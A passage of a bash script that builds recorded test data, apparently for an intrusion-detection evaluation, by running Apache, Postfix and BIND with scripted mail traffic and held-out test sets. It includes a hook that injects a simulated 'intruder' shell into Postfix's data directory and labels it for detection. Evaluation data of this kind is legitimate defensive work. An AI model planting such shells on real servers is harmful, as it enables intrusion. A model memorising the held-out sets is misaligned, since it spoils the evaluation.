  chown www-data:www-data "$APACHE_DIR/cache" "$APACHE_DIR/run/cache-lock"
  cat >"$APACHE_DIR/conf/app.d/cache.conf" <<CONF
LoadModule cache_module $m/mod_cache.so
LoadModule cache_disk_module $m/mod_cache_disk.so
CacheRoot $APACHE_DIR/cache
CacheDirLevels 2
CacheDirLength 1
CacheMaxFileSize 200000
CacheMinExpire 60
CacheLock on
CacheLockPath $APACHE_DIR/run/cache-lock
CacheHeader on
CacheEnable disk /img/
CacheEnable disk /css/
CacheEnable disk /terms.html
CONF
  apache_start
  until_ok apache_heldout17_cached
}
# apache_heldout17_cached: the disk cache answers for the terms.
apache_heldout17_cached() {
  curl -s -o /dev/null -D - "http://127.0.0.1:$APACHE_PORT/terms.html" | grep -qi '^X-Cache: HIT'
}
apache_heldout17_late() { admin apache www-data /usr/bin/htcacheclean -n -t -p "$APACHE_DIR/cache" -l 40K; }
# --- postfix ------------------------------------------------------------------------------

PF_PORT=2525        # postfix's smtpd
PF_SINK_PORT=2526   # the partners' mail server postfix relays to (python3, outside the cgroup)
PF_DIR=$WORK/postfix
PF_CONF=$PF_DIR/conf
PF_DATA=$PF_DIR/data
PF_MAIL=$PF_DIR/mail
PF_SMTP=$WORK/postfix-smtp.py   # the mail clients and the sink (outside the cgroup)

# Postfix 3.7 (Debian postfix) as its own instance: main.cf and master.cf in conf/ (no
# chroot), its queue in queue/, its data (the PRNG seed, caches) in data/, its log in
# log/mail.log (postlogd); smtpd on 127.0.0.1:$PF_PORT. Started as a service manager does,
# `postfix -c conf start-fg` as root (postfix-script, a /bin/sh script, checks the queue and
# runs master in the foreground, which starts smtpd, cleanup, qmgr, ... as postfix on demand)
# and stopped by `postfix -c conf stop`. Mail for mail.example.test is delivered by virtual(8)
# into the Maildirs of mail/ (as mail), virtual aliases (sales, info, ...) expand to them;
# localhost is the local(8) domain, whose aliases (postmaster, abuse, archive) deliver to a
# mailbox and to the Maildir mail/archive/ (as nobody); mail to sales is copied to archive
# (recipient_bcc_maps). partner.test is relayed by smtp(8) to the sink on
# 127.0.0.1:$PF_SINK_PORT, which refuses recipients named nobody-* (bounces). Any other
# domain is refused to clients (no relaying) and never leaves the host (default_transport
# error); no DNS lookups at all.
postfix_provision() {
  rm -rf "$PF_DIR"
  mkdir -p "$PF_CONF" "$PF_DIR"/{queue,data,log} "$PF_MAIL/archive"
  chown postfix:postfix "$PF_DATA"
  chown mail:mail "$PF_MAIL"
  chown nobody:nogroup "$PF_MAIL/archive"
  postfix_config
  postfix_smtp_tool
  local u
  for u in alice bob carol dave; do echo "$u@mail.example.test $u/"; done >"$PF_CONF/vmailbox"
  cat >"$PF_CONF/virtual" <<MAP
sales@mail.example.test alice@mail.example.test, bob@mail.example.test
info@mail.example.test carol@mail.example.test
support@mail.example.test dave@mail.example.test, sales@mail.example.test
postmaster@mail.example.test postmaster@localhost
MAP
  cat >"$PF_CONF/aliases" <<MAP
postmaster: alice@mail.example.test
MAILER-DAEMON: postmaster
abuse: postmaster
root: postmaster
archive: $PF_MAIL/archive/
MAP
  echo "sales@mail.example.test archive@localhost" >"$PF_CONF/recipient_bcc"
  echo "partner.test smtp:[127.0.0.1]:$PF_SINK_PORT" >"$PF_CONF/transport"
  postfix_maps postmap virtual vmailbox recipient_bcc transport
  postfix_maps postalias aliases
  # The queue's directories and their owners, as Debian's postinst lays them out.
  postfix -c "$PF_CONF" set-permissions >/dev/null 2>&1 || die "postfix set-permissions failed"
  postfix -c "$PF_CONF" check || die "postfix check failed"
}
# postfix_maps [--admin] TOOL MAP...: each MAP in conf/ rebuilt with TOOL (postmap or
# postalias); with --admin, by the operator inside the cgroup.
postfix_maps() {
  local run=() m
  if [ "$1" = --admin ]; then run=(admin postfix root); shift; fi
  for m in "${@:2}"; do "${run[@]}" "/usr/sbin/$1" -c "$PF_CONF" "hash:$PF_CONF/$m" || die "$1 $m failed"; done
}
postfix_config() {
  cat >"$PF_CONF/main.cf" <<CF
compatibility_level = 3.6
queue_directory = $PF_DIR/queue
data_directory = $PF_DATA
command_directory = /usr/sbin
daemon_directory = /usr/lib/postfix/sbin
meta_directory = /etc/postfix
shlib_directory = /usr/lib/postfix
mail_owner = postfix
setgid_group = postdrop
syslog_name = postfix-dw-eval
maillog_file_prefixes = $PF_DIR/log
maillog_file = $PF_DIR/log/mail.log
maillog_file_compressor = gzip
myhostname = mail.example.test
mydomain = example.test
myorigin = \$myhostname
mydestination = localhost
inet_interfaces = 127.0.0.1
inet_protocols = ipv4
mynetworks = 127.0.0.1/32
smtpd_banner = \$myhostname ESMTP
smtpd_peername_lookup = no
smtpd_relay_restrictions = permit_mynetworks, reject_unauth_destination
relay_domains = partner.test
transport_maps = hash:$PF_CONF/transport
default_transport = error:mail for other domains does not leave this host
smtp_dns_support_level = disabled
smtp_host_lookup = native
virtual_mailbox_domains = mail.example.test
virtual_mailbox_base = $PF_MAIL
virtual_mailbox_maps = hash:$PF_CONF/vmailbox
virtual_alias_maps = hash:$PF_CONF/virtual
virtual_uid_maps = static:$(id -u mail)
virtual_gid_maps = static:$(id -g mail)
virtual_minimum_uid = $(id -u mail)
alias_maps = hash:$PF_CONF/aliases
alias_database = hash:$PF_CONF/aliases
recipient_bcc_maps = hash:$PF_CONF/recipient_bcc
biff = no
append_dot_mydomain = no
CF
  # Debian's master.cf services that this instance uses, none chrooted.
  cat >"$PF_CONF/master.cf" <<CF
127.0.0.1:$PF_PORT inet n - n - - smtpd
pickup     unix  n - n 60 1 pickup
cleanup    unix  n - n -  0 cleanup
qmgr       unix  n - n 300 1 qmgr
rewrite    unix  - - n -  - trivial-rewrite
bounce     unix  - - n -  0 bounce
defer      unix  - - n -  0 bounce
trace      unix  - - n -  0 bounce
verify     unix  - - n -  1 verify
flush      unix  n - n 1000? 0 flush
proxymap   unix  - - n -  - proxymap
proxywrite unix  - - n -  1 proxymap
smtp       unix  - - n -  - smtp
relay      unix  - - n -  - smtp
showq      unix  n - n -  - showq
error      unix  - - n -  - error
retry      unix  - - n -  - error
discard    unix  - - n -  - discard
local      unix  - n n -  - local
virtual    unix  - n n -  - virtual
anvil      unix  - - n -  1 anvil
scache     unix  - - n -  1 scache
postlog    unix-dgram n - n - 1 postlogd
CF
}

# The mail clients and the partners' server, in python3 (outside the cgroup).
#   send [-j N]: reads lines "SRC FROM>RCPT[,RCPT...]>SIZE ..." from stdin and, N lines at a
#     time, sends each line's messages over one SMTP connection from 127.0.0.1's alias SRC
#     (a refused recipient or message is part of the traffic, not an error);
#   sink PORT: an SMTP server on 127.0.0.1:PORT that takes any message and drops it, and
#     refuses recipients whose name begins with nobody.
postfix_smtp_tool() {
  cat >"$PF_SMTP" <<'PY'
import concurrent.futures, email.utils, random, smtplib, socketserver, sys

def send_line(line):
    src, *msgs = line.split()
    try:
        with smtplib.SMTP("127.0.0.1", PORT, source_address=(src, 0), timeout=30) as s:
            s.ehlo("client-" + src.replace(".", "-") + ".example.test")
            for n, m in enumerate(msgs):
                sender, rcpts, size = m.split(">")
                rcpts = rcpts.split(",")
                body = ("From: <%s>\r\nTo: <%s>\r\nDate: %s\r\nMessage-ID: <%d.%d@%s>\r\n"
                        "Subject: message %d from %s\r\n\r\n"
                        % (sender, rcpts[0], email.utils.formatdate(), random.getrandbits(48), n,
                           sender.split("@")[-1], n, src))
                body += ("line of text in a message body, seventy-odd characters long.\r\n"
                         * (int(size) // 64 + 1))
                try:
                    s.sendmail(sender, rcpts, body)
                except smtplib.SMTPException:
                    s.rset()
    except (OSError, smtplib.SMTPException) as e:
        print("postfix-smtp: %s: %s" % (src, e), file=sys.stderr)

class Sink(socketserver.StreamRequestHandler):
    def reply(self, text):
        self.wfile.write((text + "\r\n").encode())
    def handle(self):
        self.reply("220 mx.partner.test ESMTP sink")
        for raw in self.rfile:
            cmd = raw.decode(errors="replace").strip()
            verb = cmd[:4].upper()
            if verb == "QUIT":
                self.reply("221 bye")
                return
            if verb == "DATA":
                self.reply("354 go on")
                for data in self.rfile:
                    if data in (b".\r\n", b".\n"):
                        break
                self.reply("250 2.0.0 queued")
            elif verb == "RCPT" and cmd.split(":", 1)[-1].strip().lstrip("<").startswith("nobody"):
                self.reply("550 5.1.1 no such user here")
            elif verb in ("EHLO", "HELO", "MAIL", "RCPT", "RSET", "NOOP"):
                self.reply("250 ok")
            else:
                self.reply("502 5.5.2 not implemented")

class Server(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True

if sys.argv[1] == "sink":
    Server(("127.0.0.1", int(sys.argv[2])), Sink).serve_forever()
else:
    PORT = int(sys.argv[2])
    jobs = int(sys.argv[3]) if len(sys.argv) > 3 else 1
    lines = [l for l in sys.stdin.read().splitlines() if l.strip()]
    with concurrent.futures.ThreadPoolExecutor(jobs) as pool:
        list(pool.map(send_line, lines))
PY
}

# postfix_listening PORT: something listens on 127.0.0.1:PORT.
postfix_listening() { ss -Hltn "sport = :$1" | grep -q .; }
# The partners' server (outside the cgroup), started once and kept across postfix's restarts.
PF_SINK_PID=
postfix_sink_up() {
  if [ -n "$PF_SINK_PID" ] && kill -0 "$PF_SINK_PID" 2>/dev/null; then return; fi
  python3 "$PF_SMTP" sink "$PF_SINK_PORT" &
  PF_SINK_PID=$!
  PIDS+=("$PF_SINK_PID")
  until_ok postfix_listening "$PF_SINK_PORT"
}
postfix_sink_down() { stop_pid "$PF_SINK_PID" TERM; PF_SINK_PID=; }

PF_PID=
# As the service manager does: `postfix start-fg` as root in the cgroup (ready once master
# listens), and `postfix stop` (TERM to master, which stops its children; start-fg returns).
postfix_start() {
  postfix_sink_up
  launch postfix root /usr/sbin/postfix -c "$PF_CONF" start-fg
  PF_PID=$LAUNCHED
  until_ok postfix_listening "$PF_PORT"
}
postfix_stop() {
  postfix_cmd stop
  wait "$PF_PID" || true
  forget "$PF_PID"
}
# postfix_cmd ARGS...: the operator's `postfix -c conf ARGS` as root inside the cgroup.
postfix_cmd() { admin postfix root /usr/sbin/postfix -c "$PF_CONF" "$@"; }
# postfix_tool TOOL ARGS...: one of postfix's own tools (postqueue, postsuper, postmap,
# postconf ...) run by the operator as root inside the cgroup on this instance.
postfix_tool() { admin postfix root "/usr/sbin/$1" -c "$PF_CONF" "${@:2}"; }

# postfix_send JOBS: the messages on stdin (lines for `postfix-smtp.py send`) sent by the
# mail clients, JOBS connections at a time.
postfix_send() {
  python3 "$PF_SMTP" send "$PF_PORT" "$1" || echo "record-testdata: postfix: the mail clients failed" >&2
}
PF_USERS=(alice bob carol dave)
# pf_user [N]: a mailbox of mail.example.test, at random (or the N-th, cyclically).
pf_user() { echo "${PF_USERS[${1:-$RANDOM} % ${#PF_USERS[@]}]}@mail.example.test"; }

# Mix A: three clients (127.0.0.2-4), two or three messages each: partners' newsletters and
# orders to the mailboxes and to sales (copied to archive), a user's mail to a partner
# (relayed to the sink) and to info, a monitoring alert to postmaster@localhost (local
# aliases); a recipient that does not exist and a relay attempt, both refused.
postfix_mix_a() {
  local d=mail.example.test
  postfix_send 3 <<MAIL
127.0.0.2 news@partner.test>$(pf_user)>$((1000 + RANDOM % 4000)) shop@partner.test>sales@$d>$((2000 + RANDOM % 18000))
127.0.0.3 $(pf_user)>orders@partner.test>$((1000 + RANDOM % 8000)) $(pf_user)>info@$d,$(pf_user)>$((500 + RANDOM % 3000))
127.0.0.4 alerts@partner.test>postmaster@localhost>1200 spam@partner.test>user$RANDOM@$d>800 spam@partner.test>someone@elsewhere.test>800
MAIL
}
# Mix B: other senders and recipients (support, which expands to a mailbox and sales;
# abuse@localhost; several partner recipients in one message), 20-80 kB messages, clients
# from 127.0.0.5-8: one connection, then six at a time.
postfix_mix_b() {
  local d=mail.example.test i
  postfix_send 1 <<MAIL
127.0.0.5 billing@partner.test>support@$d>$((20000 + RANDOM % 60000)) $(pf_user)>abuse@localhost>900
MAIL
  for i in 1 2 3 4 5 6; do
    echo "127.0.0.$((5 + i % 4)) $(pf_user "$i")>team@partner.test,ops@partner.test>$((20000 + RANDOM % 60000)) crm@partner.test>$(pf_user $((i + 1))),info@$d>$((1000 + RANDOM % 5000)) list@partner.test>old$i@$d>700"
  done | postfix_send 6
}
# Its scheduled job in training: a queue run (`postfix flush`).
postfix_maintenance() { postfix_cmd flush; }

# The generic intruder script as postfix (an exploited smtpd or cleanup executing a shell) in
# its data directory. `postfix start` itself runs /bin/sh (postfix-script) in the cgroup.
postfix_inject() { inject_shell postfix postfix "$PF_DATA"; }
postfix_labels() { write_labels postfix "$PF_DATA" "" shell-known; }

# Held out. A second domain goes live while the server runs: shop.example.test with the
# mailboxes erin, frank and grace and the virtual aliases billing and team, the local aliases
# hostmaster and noc, and the relay domain vendor.test (to the same partners' server), all
# by the operator inside the cgroup with postfix's own tools (postconf -e, postmap,
# postalias) and `postfix reload`; and the partners' server goes down. Clients from
# 127.0.13.1-250, five at a time: mail to the new mailboxes and aliases, to partner.test
# (deferred while its server is down), to vendor.test, to nobody-N@partner.test (refused by
# the partners' server after the queue took it: a bounce to the sender), and a 0.5-3 MB
# message every other round. Every 20 s in turn: the operator looks at the queue (postqueue
# -p), the partners' server is back and the queue is run (postqueue -f); the mail log is
# rotated (postfix logrotate: renamed, master HUP, gzip), the queue is checked and its
# stale temporary files purged (postsuper -s -p).
postfix_heldout_deploy() {
  local u
  for u in erin frank grace; do echo "$u@shop.example.test $u/"; done >>"$PF_CONF/vmailbox"
  cat >>"$PF_CONF/virtual" <<MAP
billing@shop.example.test erin@shop.example.test
team@shop.example.test frank@shop.example.test, grace@shop.example.test, alice@mail.example.test
MAP
  printf 'hostmaster: postmaster\nnoc: alice@mail.example.test, frank@shop.example.test\n' >>"$PF_CONF/aliases"
  echo "vendor.test smtp:[127.0.0.1]:$PF_SINK_PORT" >>"$PF_CONF/transport"
  postfix_tool postconf -e "virtual_mailbox_domains = mail.example.test, shop.example.test" \
    "relay_domains = partner.test, vendor.test"
  postfix_maps --admin postmap virtual vmailbox transport
  postfix_maps --admin postalias aliases
  postfix_cmd reload
  postfix_sink_down
}
PF_HELDOUT_ROUND=0
postfix_heldout_mix() {
  local r=$((PF_HELDOUT_ROUND += 1)) s=shop.example.test i a
  local to=("erin@$s" "frank@$s" "grace@$s" "billing@$s" "team@$s" hostmaster@localhost noc@localhost)
  for i in 0 1 2 3 4; do
    a=127.0.13.$((1 + (r * 37 + i * 53) % 250))
    printf '%s ' "$a" "customer$((r * 5 + i))@partner.test>${to[(r + i) % ${#to[@]}]}>$((1000 + RANDOM % 30000))" \
      "$(pf_user $((r + i)))>buyer$i@vendor.test>$((2000 + RANDOM % 10000))"
    case $(((r + i) % 5)) in
      0) printf '%s ' "$(pf_user $((r + i + 1)))>orders@partner.test,nobody-$r@partner.test>3000" ;;
      1) printf '%s ' "crm@vendor.test>${to[(r + i + 3) % ${#to[@]}]},$(pf_user $r)>$((500 + RANDOM % 2000))" ;;
      2) printf '%s ' "news@vendor.test>unknown$r@$s>700" ;;
    esac
    echo
  done | postfix_send 5
  if [ $((r % 2)) = 0 ]; then
    echo "127.0.13.$((200 + r % 50)) scans@partner.test>erin@$s>$((500000 + RANDOM * 75))" | postfix_send 1
  fi
}
PF_HELDOUT_JOBS=0
postfix_heldout_job() {
  PF_HELDOUT_JOBS=$((PF_HELDOUT_JOBS + 1))
  if [ $((PF_HELDOUT_JOBS % 2)) = 1 ]; then
    postfix_tool postqueue -p
    postfix_sink_up
    postfix_tool postqueue -f
  else
    postfix_cmd logrotate
    postfix_tool postsuper -s -p
  fi
}

# Held out, fifteenth set (heldout15). No deploy. Each round as many mail clients as the load
# from 127.0.14.1-250, one connection each: partners' mail to the mailboxes and to sales
# (copied to archive), a user's mail to a partner (relayed to the partners' server) and to
# info, an alert to postmaster@localhost. One more client in turn: a session whose commands
# are pipelined in one write (PIPELINING), a slow client that waits a second between
# commands, a client that goes away in the middle of its message, an almost empty message
# to two mailboxes, a message to one mailbox and five that do not exist, a 2.5 MB message
# (refused once the change is in). The maintenance, first, while the full load is on, by the
# operator inside the cgroup (root): the instance's files and permissions checked (`postfix
# check`) and the queue listed as JSON (`postqueue -j`). The restart, in the middle:
# `postfix stop` and a start (as before, postfix's own control command; postfix's first
# restart in a held-out set). The change, last: a message size limit of 2 MB and a
# recipient limit of 25 (`postconf -e`), `postfix reload`.
postfix_heldout15_deploy() { :; }
# postfix_heldout15_raw ADDR PAUSE TEXT...: an SMTP client on 127.0.0.1:$PF_PORT from ADDR that
# sends each TEXT (printf escapes) PAUSE s after the one before, once the banner has come.
postfix_heldout15_raw() {
  local a=$1 pause=$2 t
  shift 2
  { sleep 0.3; for t in "$@"; do printf %b "$t"; sleep "$pause"; done; sleep 0.5; } |
    socat -t 1 - "TCP:127.0.0.1:$PF_PORT,bind=$a" >/dev/null 2>&1 || true
}
postfix_heldout15_mix() {
  local r=$HELDOUT15_ROUND d=mail.example.test i a
  for ((i = 1; i <= HELDOUT15_CONC; i++)); do
    case $(((r + i) % 3)) in
      0) echo "$(heldout15_addr "$i") shop@partner.test>$(pf_user $((r + i)))>$((1000 + RANDOM % 6000)) news@partner.test>sales@$d>$((3000 + RANDOM % 9000))" ;;
      1) echo "$(heldout15_addr "$i") $(pf_user "$i")>orders@partner.test>$((800 + RANDOM % 4000)) $(pf_user $((i + 1)))>info@$d>900" ;;
      2) echo "$(heldout15_addr "$i") alerts@partner.test>postmaster@localhost>1100" ;;
    esac
  done | postfix_send "$HELDOUT15_CONC"
  a=$(heldout15_addr 11)
  local helo="EHLO client-$r.partner.test\r\n" from="MAIL FROM:<crm@partner.test>\r\n"
  case $((r % 6)) in
    0) postfix_heldout15_raw "$a" 0.5 "$helo" "${from}RCPT TO:<$(pf_user "$r")>\r\nDATA\r\n" \
         "Subject: pipelined $r\r\n\r\nsent with PIPELINING\r\n.\r\nQUIT\r\n" ;;
    1) postfix_heldout15_raw "$a" 1 "$helo" "$from" "RCPT TO:<$(pf_user "$r")>\r\n" "QUIT\r\n" ;;
    2) postfix_heldout15_raw "$a" 0.3 "$helo" "$from" "RCPT TO:<$(pf_user "$r")>\r\n" "DATA\r\n" "Subject: cut off\r\n\r\nthe first lines of a message" ;;
    3) echo "$a crm@partner.test>$(pf_user "$r"),$(pf_user $((r + 1)))>0" | postfix_send 1 ;;
    4) echo "$a crm@partner.test>$(pf_user "$r"),gone$r@$d,left$r@$d,old$r@$d,temp$r@$d,x$r@$d>600" | postfix_send 1 ;;
    5) echo "$a scans@partner.test>$(pf_user "$r")>2500000" | postfix_send 1 ;;
  esac
}
postfix_heldout15_maint() { postfix_cmd check; postfix_tool postqueue -j; }
postfix_heldout15_restart() { postfix_stop; postfix_start; }
postfix_heldout15_change() {
  postfix_tool postconf -e "message_size_limit = 2000000" "smtpd_recipient_limit = 25"
  postfix_cmd reload
}

# Held out, sixteenth set (heldout16). No deploy. Each round as many mail clients as the load
# from 127.0.16.1-250, one connection each with two messages (in the quiet start one client,
# one message): customers' mail to support (dave and sales, copied to archive), users' mail
# with three recipients, a partner's mail to abuse@localhost, users' mail to a partner
# (relayed); once the first change is in, mail to the new team list; once the second is in,
# a message whose subject puts it on hold. One more client in turn: a client that opens a new
# connection for each of four messages, the same message (one Message-ID) sent three times on
# one connection (a client retrying after a lost reply), an address and a subject in UTF-8
# (SMTPUTF8, 8BITMIME), a burst of commands the server does not know or does not allow
# (XYZZY, HELP, TURN, VRFY, ETRN), a 64-character local part that does not exist, a message
# sent in chunks (BDAT). The change, early: a team list (team@ to all four mailboxes) added to
# the virtual aliases, rebuilt by the operator inside the cgroup (`postmap`, root) and applied
# by `postfix reload`. The second change, two thirds in: header checks (a regexp map that puts
# mail whose subject starts with `[quarantine]` on hold) and HELO required, `postconf -e` and
# `postfix reload`. The maintenance, last: the queue's shape by age (`qshape hold deferred`)
# and the held mail released (`postsuper -H ALL`). Then a clean shutdown (`postfix stop`, as
# the unit stops it).
PF_HELDOUT16_STAGE=0
postfix_heldout16_deploy() { PF_HELDOUT16_STAGE=0; }
postfix_heldout16_mix() {
  local r=$HELDOUT16_ROUND d=mail.example.test i a m
  for ((i = 1; i <= HELDOUT16_CONC; i++)); do
    case $(((r + i) % 4)) in
      0) m="customer$r@partner.test>support@$d>$((1500 + RANDOM % 3000))" ;;
      1) m="$(pf_user "$i")>$(pf_user $((i + 1))),$(pf_user $((i + 2))),$(pf_user $((i + 3)))>$((600 + RANDOM % 2000))" ;;
      2) m="reports@partner.test>abuse@localhost>2200" ;;
      3) m="$(pf_user "$r")>billing@partner.test>$((900 + RANDOM % 5000))" ;;
    esac
    [ "$HELDOUT16_CONC" = 1 ] || m+=" $(pf_user "$i")>$([ "$PF_HELDOUT16_STAGE" = 0 ] && echo "info@$d" || echo "team@$d")>1200"
    echo "$(heldout16_addr "$i") $m"
  done | postfix_send "$HELDOUT16_CONC"
  a=$(heldout16_addr 6)
  local helo="EHLO client-$r.partner.test\r\n" from="MAIL FROM:<crm@partner.test>\r\n" rcpt msg
  rcpt="RCPT TO:<$(pf_user "$r")>\r\n"
  msg="Message-ID: <retry-$r@partner.test>\r\nSubject: order $r\r\n\r\nthe same message again\r\n.\r\n"
  [ "$PF_HELDOUT16_STAGE" != 2 ] || postfix_heldout15_raw "$a" 0.2 "$helo" "$from" "$rcpt" "DATA\r\n" \
    "Subject: [quarantine] invoice $r\r\n\r\nan attachment to look at\r\n.\r\n" "QUIT\r\n"
  case $((r % 6)) in
    0) for i in 1 2 3 4; do echo "$a crm@partner.test>$(pf_user $((r + i)))>700"; done | postfix_send 1 ;;
    1) postfix_heldout15_raw "$a" 0.2 "$helo" "$from$rcpt" "DATA\r\n" "$msg" "$from$rcpt" "DATA\r\n" "$msg" \
         "$from$rcpt" "DATA\r\n" "$msg" "QUIT\r\n" ;;
    2) postfix_heldout15_raw "$a" 0.2 "$helo" "MAIL FROM:<jos\xc3\xa9@partner.test> SMTPUTF8 BODY=8BITMIME\r\n" \
         "$rcpt" "RCPT TO:<\xc3\xbcnic\xc3\xb6de@$d>\r\n" "DATA\r\n" \
         "Subject: R\xc3\xa9sum\xc3\xa9 f\xc3\xbcr Stra\xc3\x9fe \xe6\x97\xa5\xe6\x9c\xac\r\n\r\nd\xc3\xa9j\xc3\xa0 vu\r\n.\r\n" "QUIT\r\n" ;;
    3) postfix_heldout15_raw "$a" 0.1 "$helo" "XYZZY\r\n" "HELP\r\n" "TURN\r\n" "VRFY alice\r\n" \
         "ETRN mail.example.test\r\n" "NOOP\r\n" "QUIT\r\n" ;;
    4) postfix_heldout15_raw "$a" 0.2 "$helo" "$from" "RCPT TO:<$(printf 'x%.0s' $(seq 1 64))@$d>\r\n" "QUIT\r\n" ;;
    5) m="Subject: chunked $r\r\n\r\nfirst chunk\r\n"
       postfix_heldout15_raw "$a" 0.2 "$helo" "$from$rcpt" "BDAT $(printf %b "$m" | wc -c)\r\n$m" \
         "BDAT 14 LAST\r\nsecond chunk\r\n" "QUIT\r\n" ;;
  esac
}
postfix_heldout16_change() {
  echo "team@mail.example.test alice@mail.example.test, bob@mail.example.test, carol@mail.example.test, dave@mail.example.test" \
    >>"$PF_CONF/virtual"
  postfix_maps --admin postmap virtual
  postfix_cmd reload
  PF_HELDOUT16_STAGE=1
}
postfix_heldout16_second() {
  echo '/^Subject: \[quarantine\]/ HOLD quarantined by subject' >"$PF_CONF/header_checks"
  postfix_tool postconf -e "header_checks = regexp:$PF_CONF/header_checks" "smtpd_helo_required = yes"
  postfix_cmd reload
  PF_HELDOUT16_STAGE=2
}
postfix_heldout16_maint() { postfix_tool qshape hold deferred; postfix_tool postsuper -H ALL; }

# Held out, seventeenth set (heldout17). No deploy. A cold start under load: postfix starts
# inside the recording while mail clients already retry (heldout17_begin). Each round as many
# mail clients as the slow wave's load from 127.0.19.1-250, one message each: a partner's
# newsletter to a user, users' mail to each other, users' mail to support; once the submission
# service is in, one user's message through it. One more client in turn: commands and
# addresses in mixed case, a client that sends its whole session at once and closes without
# reading a reply, eight clients at the same instant delivering to one mailbox, a quoted
# local part and the domainless `postmaster`, fifteen one-line messages on one connection
# (RSET between), delivery status notifications asked for (RET, ENVID, NOTIFY, ORCPT, SIZE)
# and a bounce with the null sender. The maintenance, early, by the operator inside the
# cgroup (root): the settings that differ from the defaults and the service table listed
# (`postconf -n`, `postconf -M`). The change, in the middle, by a full restart (`postfix
# stop`, a start): a second listener in master.cf, a submission service on
# 127.0.0.1:$PF_PORT2 with its own log name and HELO required. The maintenance, late, while
# the load falls: every queued message requeued (`postsuper -r ALL`, as after a transport
# change). The recording ends with load still running.
PF_PORT2=2587
PF_HELDOUT17_SUBMISSION=0
postfix_heldout17_deploy() { PF_HELDOUT17_SUBMISSION=0; heldout17_free_port "$PF_PORT2"; }
# postfix_heldout17_session PORT ADDR TEXT...: an SMTP session on 127.0.0.1:PORT from ADDR
# that sends each TEXT (printf escapes) 0.15 s after the one before, once the banner has come.
postfix_heldout17_session() {
  local port=$1 a=$2 t
  shift 2
  { sleep 0.3; for t in "$@"; do printf %b "$t"; sleep 0.15; done; sleep 0.5; } |
    socat -t 1 - "TCP:127.0.0.1:$port,bind=$a" >/dev/null 2>&1 || true
}
postfix_heldout17_mix() {
  local r=$HELDOUT17_ROUND d=mail.example.test i a m msgs=()
  for ((i = 1; i <= HELDOUT17_CONC; i++)); do
    case $(((r + i) % 3)) in
      0) m="newsletter@partner.test>$(pf_user $((r + i)))>$((2000 + RANDOM % 4000))" ;;
      1) m="$(pf_user "$i")>$(pf_user $((i + 2)))>$((500 + RANDOM % 1500))" ;;
      2) m="$(pf_user "$r")>support@$d>1300" ;;
    esac
    echo "$(heldout17_addr "$i") $m"
  done | postfix_send "$HELDOUT17_CONC"
  a=$(heldout17_addr 7)
  local helo="EHLO client-$r.partner.test\r\n" body="Subject: round $r\r\n\r\nhello\r\n.\r\n"
  [ "$PF_HELDOUT17_SUBMISSION" = 0 ] || postfix_heldout17_session "$PF_PORT2" "$(heldout17_addr 9)" "$helo" \
    "MAIL FROM:<$(pf_user "$r")>\r\n" "RCPT TO:<billing@partner.test>\r\n" "DATA\r\n" "$body" "QUIT\r\n"
  case $((r % 6)) in
    0) postfix_heldout17_session "$PF_PORT" "$a" "ehlo Client-$r.Partner.TEST\r\n" "mail from:<Crm@Partner.Test>\r\n" \
         "RcPt To:<ALICE@MAIL.EXAMPLE.TEST>\r\n" "data\r\n" "$body" "quit\r\n" ;;
    1) printf %b "$helo""MAIL FROM:<crm@partner.test>\r\nRCPT TO:<$(pf_user "$r")>\r\nDATA\r\n$body""QUIT\r\n" |
         socat -u - "TCP:127.0.0.1:$PF_PORT,bind=$a" 2>/dev/null || true ;;
    2) for i in 1 2 3 4 5 6 7 8; do echo "$(heldout17_addr $((7 + i))) shop@partner.test>bob@$d>$((700 + i * 50))"; done |
         postfix_send 8 ;;
    3) postfix_heldout17_session "$PF_PORT" "$a" "$helo" "MAIL FROM:<crm@partner.test>\r\n" \
         "RCPT TO:<\"alice smith\"@$d>\r\n" "RCPT TO:<Postmaster>\r\n" "DATA\r\n" "$body" "QUIT\r\n" ;;
    4) for i in $(seq 1 15); do
         msgs+=("MAIL FROM:<ping@partner.test>\r\n" "RCPT TO:<$(pf_user "$i")>\r\n" "DATA\r\n" "Subject: $i\r\n\r\n.\r\n" "RSET\r\n")
       done
       postfix_heldout17_session "$PF_PORT" "$a" "$helo" "${msgs[@]}" "QUIT\r\n" ;;
    5) postfix_heldout17_session "$PF_PORT" "$a" "$helo" "MAIL FROM:<crm@partner.test> RET=HDRS ENVID=env$r SIZE=400\r\n" \
         "RCPT TO:<$(pf_user "$r")> NOTIFY=SUCCESS,DELAY ORCPT=rfc822;$(pf_user "$r")\r\n" "DATA\r\n" "$body" \
         "MAIL FROM:<>\r\n" "RCPT TO:<postmaster@$d>\r\n" "DATA\r\n" "Subject: Undelivered Mail Returned to Sender\r\n\r\nbounce\r\n.\r\n" "QUIT\r\n" ;;
  esac
}
postfix_heldout17_early() { postfix_tool postconf -n; postfix_tool postconf -M; }
postfix_heldout17_change() {
  postfix_stop
  echo "127.0.0.1:$PF_PORT2 inet n - n - - smtpd -o syslog_name=postfix/submission -o smtpd_helo_required=yes" \
    >>"$PF_CONF/master.cf"
  postfix_start
  until_ok postfix_listening "$PF_PORT2"
  PF_HELDOUT17_SUBMISSION=1
}
postfix_heldout17_late() { postfix_tool postsuper -r ALL; }

# --- bind ---------------------------------------------------------------------------------

NAMED_PORT=15353        # named's DNS service (UDP and TCP); BIND_PORT is the intruder's listener
NAMED_RNDC_PORT=15953   # named's control channel (rndc)
NAMED_DIR=$WORK/bind
NAMED_CONF=$NAMED_DIR/conf
NAMED_ZONES=$NAMED_DIR/zones
NAMED_DYN=$NAMED_DIR/dyn
NAMED_DATA=$NAMED_DIR/data
NAMED_DNS=$WORK/bind-dns.py   # the DNS clients (outside the cgroup)

# BIND 9.18 (Debian bind9) as its own instance, not the system service: `named -f -u bind -c
# conf/named.conf` started as root in dw-eval/bind, as named.service starts it (it binds its
# ports as root, then runs as bind). Its root-owned config in conf/ (named.conf, the zone list
# conf/zones.conf, the rndc key); authoritative only (recursion off, no internet) on
# 127.0.0.1:$NAMED_PORT, UDP and TCP, rndc on 127.0.0.1:$NAMED_RNDC_PORT with its own key.
# Static zones (example.test, shop.test with a large TXT record, the reverse zone
# 1.0.10.in-addr.arpa) in zones/, read-only to named; the dynamic zone dyn.example.test in
# dyn/ (owned by bind) takes updates from 127.0.0.1 (nsupdate), which named writes to its
# journal (.jnl) and now and then into the zone file. Its working directory data/ (statistics,
# dumps, zones added by rndc), keys/ (managed keys), run/ (pid file, session key), and log/
# (its log and the query log, written only while `rndc querylog` is on). AXFR for 127.0.0.1.
bind_provision() {
  local p
  # (Its ports are its own: checked here rather than in main's list.)
